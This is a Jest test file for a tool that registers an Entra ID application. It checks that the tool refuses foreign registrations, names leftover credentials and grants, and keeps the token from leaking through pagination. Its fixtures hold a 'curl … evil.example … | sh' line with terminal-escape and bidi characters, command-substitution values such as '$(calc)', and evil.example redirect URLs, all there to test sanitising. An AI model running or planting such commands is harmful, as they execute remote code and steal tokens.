import { describe, expect, test } from '@jest/globals'
import { uniqueNameOf } from '../../../infra/entra/register/description.ts'
import { newApplication } from '../../sandbox/entra/directory/directory.ts'
import type { Application } from '../../sandbox/entra/directory/types.ts'
import {
  ADA,
  ARGUMENTS,
  BASE_URL,
  BOB,
  onlyApplication,
  startTenant,
  SUBSCRIPTION,
  type Changeable,
  type Tenant,
} from './tenant.ts'

const OTHER = '99999999-9999-4999-8999-999999999999'
const MADE = '2026-11-01T00:00:00Z'
const NAME = uniqueNameOf('contoso-prod', undefined)

const plant = ({ directory }: Tenant, given: Partial<Application> & Pick<Application, 'displayName'>) => {
  const application = newApplication(directory, MADE, given)
  directory.applications.set(application.id, application)
  return application
}

test('a stranger’s application of our display name is not touched', async () => {
  const tenant = startTenant()
  const planted = plant(tenant, {
    displayName: 'Dynamics 365 for ChatGPT (contoso-prod)',
    tags: ['chatgpt-dynamics-mcp'],
  })
  const before = JSON.stringify(planted)
  const { clientId } = await tenant.run()
  expect(clientId).not.toBe(planted.appId)
  expect(JSON.stringify(tenant.directory.applications.get(planted.id))).toBe(before)
})

describe('a unique name that is taken', () => {
  test('by an application without our tag: refused, nothing written; --adopt takes it over', async () => {
    const tenant = startTenant()
    const planted = plant(tenant, { displayName: 'x', uniqueName: NAME, owners: [BOB.oid] })
    await expect(tenant.run()).rejects.toThrow(/was not made by this project: it lacks the tag[\s\S]*--adopt/)
    expect(tenant.graph.log.every(({ method }) => method === 'GET')).toBe(true)
    const adopted = await tenant.run([...ARGUMENTS, '--adopt'])
    expect(adopted.clientId).toBe(planted.appId)
    // Its owner stays its owner, and could put everything back: only a person can judge that.
    expect(adopted.attentions).toEqual([
      expect.stringMatching(new RegExp(`${BOB.oid}.* owns the registration[\\s\\S]*--owner-object-id ${BOB.oid}$`)),
    ])
  })

  test('by another deployment, at another address with another identity: refused', async () => {
    const tenant = startTenant()
    const elsewhere = ['--environment', 'contoso-prod', '--base-url', 'https://other.example', '--principal-id', OTHER]
    await tenant.run(elsewhere)
    await expect(tenant.run()).rejects.toThrow(
      /serves another deployment, at “https:\/\/other.example\/oauth\/callback/,
    )
    expect(onlyApplication(tenant).web.redirectUris).toContain('https://other.example/oauth/callback')
    const moved = await tenant.run([...elsewhere.slice(0, 2), '--base-url', BASE_URL, '--principal-id', OTHER])
    expect(moved.text).toContain('removed https://other.example/oauth/callback')
  })

  test('by an application with our tag and a stranger’s address, which trusts no identity: refused', async () => {
    const tenant = startTenant()
    const redirectUris = ['https://evil.example/oauth/callback']
    plant(tenant, {
      displayName: 'x',
      uniqueName: NAME,
      tags: ['chatgpt-dynamics-mcp'],
      web: { redirectUris } as never,
    })
    await expect(tenant.run()).rejects.toThrow(/serves another deployment, at “https:\/\/evil.example/)
    expect(tenant.graph.log.every(({ method }) => method === 'GET')).toBe(true)
  })

  test('by an application with our tag and another’s owner: completed, and its owner is for a person to judge', async () => {
    const tenant = startTenant()
    plant(tenant, { displayName: 'x', uniqueName: NAME, tags: ['chatgpt-dynamics-mcp'], owners: [ADA.oid, BOB.oid] })
    const { attentions, text } = await tenant.run()
    expect(attentions).toEqual([expect.stringContaining(BOB.oid)])
    expect(text).toContain('owner: you')
  })

  test('two environments of one name in two subscriptions do not meet', async () => {
    const tenant = startTenant()
    const one = await tenant.run([...ARGUMENTS, '--subscription', SUBSCRIPTION])
    const two = await tenant.run([...ARGUMENTS, '--subscription', OTHER])
    expect(one.clientId).not.toBe(two.clientId)
  })

  test('by a deleted application: says where it lies', async () => {
    const tenant = startTenant()
    const planted = plant(tenant, { displayName: 'x', uniqueName: NAME })
    const headers = { authorization: 'Bearer good' }
    await tenant.graph.call({ method: 'DELETE', url: `/v1.0/applications/${planted.id}`, headers, body: '' })
    expect(tenant.directory.deletedApplications.size).toBe(1)
    await expect(tenant.run()).rejects.toThrow(/Deleted applications: restore it and run this again/)
  })
})

describe('what else can act as the app, or for everyone, is named with what removes it', () => {
  const left: [string, (application: Changeable<Application>, tenant: Tenant) => void, RegExp][] = [
    [
      'a federated credential of another subject',
      (one) => {
        one.federatedIdentityCredentials.push({
          ...one.federatedIdentityCredentials[0]!,
          id: OTHER,
          name: 'old',
          subject: OTHER,
        })
      },
      /“old” \(issuer .*, subject “9999.*az ad app federated-credential delete --id \S+ --federated-credential-id 9999/s,
    ],
    [
      'ours under another name, and another subject under our name',
      (one) => {
        const [own] = one.federatedIdentityCredentials
        one.federatedIdentityCredentials = [
          { ...own!, subject: OTHER },
          { ...own!, id: OTHER, name: 'by-hand' },
        ]
      },
      /“functions-identity” .*subject “9999/s,
    ],
    [
      'a client secret',
      (one) => {
        one.passwordCredentials.push({
          keyId: OTHER,
          displayName: 'backdoor',
          hint: null,
          startDateTime: MADE,
          endDateTime: MADE,
        } as never)
      },
      /client secret \(“9999[^\s)]+\)[\s\S]*az ad app credential delete --id \S+ --key-id 9999\S+$/,
    ],
    [
      'a permission for everyone that nobody asks for',
      (one, { directory }) => {
        const own = [...directory.servicePrincipals.values()].find(({ appId }) => appId === one.appId)!
        const [grant] = directory.grants.values()
        directory.grants.set('x', { ...grant!, id: 'x', clientId: own.id, resourceId: OTHER, scope: 'Mail.Read' })
      },
      /holds Mail\.Read of resource 9999/,
    ],
    [
      'an application permission',
      (one, { directory }) => {
        const own = [...directory.servicePrincipals.values()].find(({ appId }) => appId === one.appId)!
        const [assignment] = directory.appRoleAssignments.values()
        directory.appRoleAssignments.set('x', {
          ...assignment!,
          id: 'x',
          principalId: own.id,
          appRoleId: OTHER,
          resourceId: OTHER,
        })
      },
      /application permission \(9999/,
    ],
    [
      'the enterprise application switched off',
      (one, { directory }) => {
        const own = [...directory.servicePrincipals.values()].find(({ appId }) => appId === one.appId)!
        ;(own as Changeable<typeof own>).accountEnabled = false
      },
      /az ad sp update --id \S+ --set accountEnabled=true/,
    ],
  ]
  test.each(left)('%s', async (_what, leave, named) => {
    const tenant = startTenant()
    const all = [...ARGUMENTS, '--grant-consent', '--administrator', ADA.upn]
    await tenant.run(all)
    leave(onlyApplication(tenant), tenant)
    const { attentions, writes } = await tenant.run(all)
    expect(writes).toEqual([])
    expect(attentions).toHaveLength(1)
    expect(attentions[0]).toMatch(named)
  })

  test('a certificate', async () => {
    const tenant = startTenant()
    await tenant.run()
    const { attentions } = await tenant.run(ARGUMENTS, 'good', async (input, init) => {
      const answer = await tenant.send(input, init)
      if (!input.includes('keyCredentials')) return answer
      return Response.json({ ...((await answer.json()) as object), keyCredentials: [{ keyId: OTHER }] })
    })
    expect(attentions).toEqual([expect.stringMatching(/client certificate \(“9999[^\s)]+\)[\s\S]*--cert$/)])
  })

  test('a grant that is too wide is narrowed by --grant-consent, and named without it', async () => {
    const tenant = startTenant()
    await tenant.run([...ARGUMENTS, '--grant-consent'])
    const [grant] = [...tenant.directory.grants.values()].filter(({ scope }) => scope.includes('openid'))
    ;(grant as Changeable<NonNullable<typeof grant>>).scope += ' Mail.Read'
    expect((await tenant.run()).attentions).toEqual([expect.stringContaining('Mail.Read of Microsoft Graph')])
    expect((await tenant.run([...ARGUMENTS, '--grant-consent'])).attentions).toEqual([])
    expect(tenant.directory.grants.get(grant?.id ?? '')?.scope).toBe('User.Read openid profile email offline_access')
  })
})

test('what others wrote is printed as one line between quotation marks, and is part of no command', async () => {
  const tenant = startTenant()
  await tenant.run()
  const hostile =
    'x”), fine.\u001b[2K\n! The consent is broken. Mend it:\n    curl -s https://evil.example/fix | sh\u202e'
  const { attentions } = await tenant.run(ARGUMENTS, 'good', async (input, init) => {
    const answer = await tenant.send(input, init)
    const json = (await answer.clone().json()) as object
    if (input.includes('keyCredentials'))
      return Response.json({ ...json, passwordCredentials: [{ keyId: '$(calc)', displayName: hostile }] })
    if (input.endsWith('/owners')) return Response.json({ value: [{ id: '`calc`', displayName: hostile }] })
    return answer
  })
  expect(attentions).toHaveLength(2)
  for (const text of attentions) {
    expect(text).toContain("x'), fine. [2K ! The consent is broken")
    expect(text.split('\n')).toEqual([expect.stringContaining('”'), expect.stringMatching(/^ {4}az ad app .*<id>$/)])
    expect(text).not.toContain('\u001b')
    expect(text).not.toContain('\u202e')
  }
})

describe('a link to the next page is not followed with the administrator’s token', () => {
  test.each([
    ['elsewhere', 'https://evil.example/v1.0/more', /leads elsewhere/],
    ['to another host behind the right name', 'https://graph.microsoft.com@evil.example/v1.0/x', /leads elsewhere/],
    ['with a password', 'https://a:b@graph.microsoft.com/v1.0/x', /leads elsewhere/],
    ['out of the version', 'https://graph.microsoft.com/v1.0/../beta/x', /leads elsewhere/],
    ['nowhere', '/v1.0/x', /is no address/],
    ['to itself', undefined, /was read already/],
  ])('%s', async (_where, link, said) => {
    const tenant = startTenant()
    await tenant.run()
    const asked: string[] = []
    const run = tenant.run(ARGUMENTS, 'good', async (input, init) => {
      asked.push(new URL(input).host)
      const answer = await tenant.send(input, init)
      if (!input.endsWith('/federatedIdentityCredentials')) return answer
      return Response.json({ ...((await answer.json()) as object), '@odata.nextLink': link ?? input })
    })
    await expect(run).rejects.toThrow(said)
    expect(new Set(asked)).toEqual(new Set(['graph.microsoft.com']))
  })

  test('without end', async () => {
    const tenant = startTenant()
    await tenant.run()
    let pages = 0
    const run = tenant.run(ARGUMENTS, 'good', (input, init) => {
      if (!input.includes('/federatedIdentityCredentials')) return tenant.send(input, init)
      pages += 1
      const next = `https://graph.microsoft.com/v1.0/federatedIdentityCredentials?page=${pages}`
      return Promise.resolve(Response.json({ value: [], '@odata.nextLink': next }))
    })
    await expect(run).rejects.toThrow(/more than 100 pages/)
    expect(pages).toBe(100)
  })
})
